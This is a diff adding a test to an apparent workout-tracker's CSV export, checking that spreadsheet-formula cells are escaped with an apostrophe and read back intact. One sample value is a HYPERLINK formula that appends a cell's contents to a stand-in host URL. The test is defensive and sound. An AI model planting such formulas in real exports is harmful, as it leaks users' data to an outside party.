@@ -206,3 +206,25 @@ def test_sessions_logged_here_and_imported_back_from_csv_are_already_here(data_d
     again = import_file(data_dir, exported)
     assert (again.sessions_new, again.sessions_present) == (0, 1)
     assert [s.id for s in stored(data_dir)] == [logged.id]
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text_and_read_back(tmp_path):
+    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    squat = replace(a_session(a_set(), notes="+1 rep next time").exercises[0], name="@SUM(1+1)")
+    session = replace(a_session(a_set(), notes="-2 kg, felt heavy"), name=evil, exercises=(squat,))
+    text = strong_csv([session], "kg", timezone.utc)
+    row = rows_of(text)[0]
+    assert row["Workout Name"] == "'" + evil
+    assert row["Exercise Name"] == "'@SUM(1+1)"
+    assert row["Workout Notes"] == "'-2 kg, felt heavy"
+    assert row["Weight"] == "100"  # numbers stay numbers
+    path = tmp_path / "out.csv"
+    path.write_text(text)
+    data = tmp_path / "data"
+    import_file(data, path)
+    (back,) = stored(data)
+    assert (back.name, back.exercises[0].name, back.notes) == (
+        evil,
+        "@SUM(1+1)",
+        "-2 kg, felt heavy",
+    )
